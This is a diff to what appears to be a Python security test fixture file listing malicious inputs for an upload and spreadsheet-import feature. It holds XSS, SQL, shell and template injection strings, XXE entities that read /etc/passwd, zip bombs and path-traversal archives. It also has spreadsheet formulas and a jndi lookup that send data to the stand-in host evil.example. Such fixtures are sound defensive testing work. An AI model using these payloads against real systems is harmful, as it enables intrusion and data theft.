@@ -49,7 +49,7 @@ XSS: Final = (
     "' onmouseover='alert(1)",
     "` onmouseover=`alert(1)",
     '" autofocus onfocus="alert(1)" x="',
-    "\" hx-get=\"/mine/\" hx-trigger=\"load\" x=\"",
+    '" hx-get="/mine/" hx-trigger="load" x="',
     "<div hx-on:load='alert(1)'>x</div>",
     "<button data-copy='x' data-open='x'>x</button>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
@@ -71,12 +71,12 @@ TEMPLATES: Final = (
     "{{ 7*7 }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load static %}",
     "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/x}",
     "%(name)s %(missing)s", "%s%s%s%n", "{0.__class__.__mro__}", "{person.password}", "{}{}{}",
-    "#set($x=7*7)$x", "*{7*7}", "@(7*7)", "[[7*7]]", "#read(\"/etc/passwd\")", "#eval(1)", "$math$", "`id`", "\\input{/etc/passwd}",
+    "#set($x=7*7)$x", "*{7*7}", "@(7*7)", "[[7*7]]", '#read("/etc/passwd")', "#eval(1)", "$math$", "`id`", "\\input{/etc/passwd}",
 )  # fmt: skip
 FORMULAS: Final = (
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=WEBSERVICE(\"http://evil.example\")",
-    "=IMPORTXML(\"http://evil.example\",\"//a\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!E1",
-    "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\";=1+1", "x;=1+1", "x\n=1+1",
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML("http://evil.example","//a")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!E1",
+    "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "x;=1+1", "x\n=1+1",
     "+358401234567", "-", "=", "@aino",
 )  # fmt: skip
 HEADERS: Final = (
@@ -92,7 +92,7 @@ PATHS: Final = (
 COMMANDS: Final = (
     "' OR '1'='1", "'; DROP TABLE people_person; --", "1; SELECT pg_sleep(5)", "1 UNION SELECT null,version()--", "' AND 1=CAST((SELECT version()) AS int)--",
     "\\'; --", "%27%20OR%201=1", "1e1' OR 1::int=1", "*)(uid=*))(|(uid=*", "' or ''='", "; cat /etc/passwd", "| id", "$(id)",
-    "&& sleep 5 &&", "<!--#exec cmd=\"id\"-->", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "{\"$gt\": \"\"}", "__proto__",
+    "&& sleep 5 &&", '<!--#exec cmd="id"-->', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", '{"$gt": ""}', "__proto__",
     "constructor[prototype][x]", "() { :;}; echo x", "a' || pg_read_file('/etc/passwd') || '", "100%_\\%", "\\", "\\\\", "NULL", "null", "undefined",
 )  # fmt: skip
 NUMBERS: Final = (
@@ -146,7 +146,10 @@ FILES: Final[tuple[tuple[str, Callable[[], bytes]], ...]] = (
     ("only-marks.csv", lambda: b"\xef\xbb\xbf\r\n\r\n"),
     ("picture.csv", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
     ("photo.xlsx", lambda: b"\xff\xd8\xff\xe0" + b"x" * 100),
-    ("drawing.csv", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"),
+    (
+        "drawing.csv",
+        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
+    ),
     ("page.xlsx", lambda: b"<!doctype html><script>alert(1)</script>"),
     ("program.csv", lambda: b"MZ\x90\x00" + b"\x00" * 200),
     ("program.xlsx", lambda: b"\x7fELF" + b"\x00" * 200),
@@ -158,7 +161,12 @@ FILES: Final[tuple[tuple[str, Callable[[], bytes]], ...]] = (
     ("climbing.xlsx", lambda: _zip(**{"..__..__..__etc__passwd": b"x", "[Content_Types].xml": _TYPES})),
     ("bomb.xlsx", lambda: _zip(**{"xl__worksheets__sheet1.xml": b"\x00" * (130 * 1024 * 1024)})),
     ("laughs.xlsx", lambda: _zip(**{"[Content_Types].xml": _BOMB, "xl__workbook.xml": _BOMB})),
-    ("entity.xlsx", lambda: _zip(**{"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"})),
+    (
+        "entity.xlsx",
+        lambda: _zip(
+            **{"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"}
+        ),
+    ),
     ("nested.xlsx", lambda: _zip(inner=_zip(inner=b"x" * 1000))),
     ("packed.csv.gz", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 50),
     ("zeros.csv", lambda: b"\x00" * 10_000),
@@ -166,7 +174,7 @@ FILES: Final[tuple[tuple[str, Callable[[], bytes]], ...]] = (
     ("no-heading.csv", lambda: b"a;b;c\n1;2;3\n"),
     ("wide.csv", lambda: b";".join(b"x" for _ in range(100_000)) + b"\n"),
     ("one-line.csv", lambda: b"x" * (2 * 1024 * 1024)),
-    ("quote.csv", lambda: b'Yritys;Y-tunnus\n"' + b"never closed;" * 10_000),
+    ("quote.csv", lambda: b'"' + b"never closed;" * 10_000),
     ("too-many.csv", lambda: b"Yritys;Y-tunnus\n" + b"Kuura Oy;\n" * 20_001),
     ("too-large.csv", lambda: b"Yritys;Y-tunnus\n" + b"Kuura Oy;\n" * 1_100_000),
     ("half.csv", lambda: "Yritys;Y-tunnus\nKuura\ud800 Oy;\n".encode("utf-16", "surrogatepass")),
